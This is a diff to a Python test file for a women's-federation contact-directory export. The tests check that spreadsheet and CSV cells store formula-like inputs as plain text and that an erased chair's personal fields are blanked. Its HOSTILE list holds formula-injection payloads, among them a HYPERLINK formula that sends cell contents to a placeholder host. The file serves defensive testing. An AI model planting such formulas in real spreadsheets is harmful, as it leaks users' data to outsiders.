@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
-from niangjia_projections.entrypoints.people import DIRECTORY_COLUMNS, _workbook
+from niangjia_projections.entrypoints.people import _sheet_row
 from niangjia_projections.exports import FORMULA_STARTS, csv_cell
+from niangjia_projections.glossary import Lang, stamp
 from niangjia_projections.models.audit import queries as audit
-from niangjia_projections.workbook import put, sheet_name
+from niangjia_projections.workbook import Stamp, put, sheet_name, workbook
 from openpyxl import Workbook, load_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -34,15 +36,56 @@ def test_the_audit_csv_has_no_formula_in_any_cell() -> None:
             assert not cell.startswith(FORMULA_STARTS), cell
 
 
-def test_the_directory_workbook_holds_text_never_a_formula() -> None:
-    rows = [{column: hostile for column in DIRECTORY_COLUMNS} for hostile in HOSTILE]
-    book = load_workbook(io.BytesIO(_workbook(rows)))
-    sheet = book.active
+PLACE = ("member_id", "federation_id", "region", "level")
+PERSONAL = ("name", "mobile", "employer", "title")
+
+
+def _directory_sheet(rows: list[dict[str, Any]], lang: Lang) -> list[list[Any]]:
+    report: dict[str, Any] = {"region": "江苏省/常州市/武进区", "as_of": None, "known_at": None, "chairs": len(rows)}
+    report["items"] = [_sheet_row(row, lang) for row in rows]
+    head = Stamp(stamp("chairs_directory", lang), "江苏省/常州市/武进区", None, None, 7)
+    sheet = load_workbook(io.BytesIO(workbook(head, report, lang))).active
     assert sheet is not None
-    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
-    assert len(values) == len(HOSTILE) * len(DIRECTORY_COLUMNS)
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_directory_workbook_holds_text_never_a_formula() -> None:
+    rows = [dict.fromkeys((*PLACE, *PERSONAL), hostile) for hostile in HOSTILE]
+    report = {"chairs": len(rows), "items": [_sheet_row(row, "zh") for row in rows]}
+    sheet = load_workbook(io.BytesIO(workbook(Stamp("通讯录", None, None, None, None), report, "zh"))).active
+    assert sheet is not None
+    values = [cell for row in sheet.iter_rows(min_row=sheet.max_row - len(HOSTILE) + 1) for cell in row]
+    assert len(values) == len(HOSTILE) * len(PLACE + PERSONAL)
     assert all(cell.data_type == "s" for cell in values)
     assert {cell.value for cell in values} == {h.replace("\r", "\n") for h in HOSTILE}  # as written (XML keeps no CR)
+
+
+@pytest.mark.parametrize(
+    ("lang", "headers", "erased"),
+    [
+        ("zh", ["执委编号", "妇联编号", "地区", "层级", "姓名", "手机", "工作单位", "单位职务"], "已删除"),
+        ("en", ["member id", "federation id", "region", "level", "name", "mobile", "employer", "job title"], "erased"),
+    ],
+)
+def test_the_directory_workbook_names_its_headers_and_levels_and_says_who_was_erased(
+    lang: Lang, headers: list[str], erased: str
+) -> None:
+    """A chair's own name and job title under their own headers (not an organisation's 名称), her level by
+    its name, the sheet stamped as every export is; an erased chair's personal cells empty but her name's."""
+    place = {"member_id": "m-1", "federation_id": "wj-hitech", "region": "江苏省/常州市/武进区/湖塘镇", "level": "town"}
+    kept = {**place, "name": "张敏", "mobile": "13800000000", "employer": "某公司", "title": "经理"}
+    gone = {**place, "member_id": "m-2", **dict.fromkeys(PERSONAL)}
+    cells = _directory_sheet([kept, gone], lang)
+    assert cells[0][0] == ("妇委会主任通讯录" if lang == "zh" else "Chairs' contact directory")
+    assert cells[-3][: len(headers)] == headers
+    assert cells[-2][3:] == [
+        ("镇（街道）" if lang == "zh" else "town"),
+        "张敏",
+        "13800000000",
+        "某公司",
+        "经理",
+    ]
+    assert cells[-1][4:] == [erased, None, None, None]
 
 
 def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text() -> None:
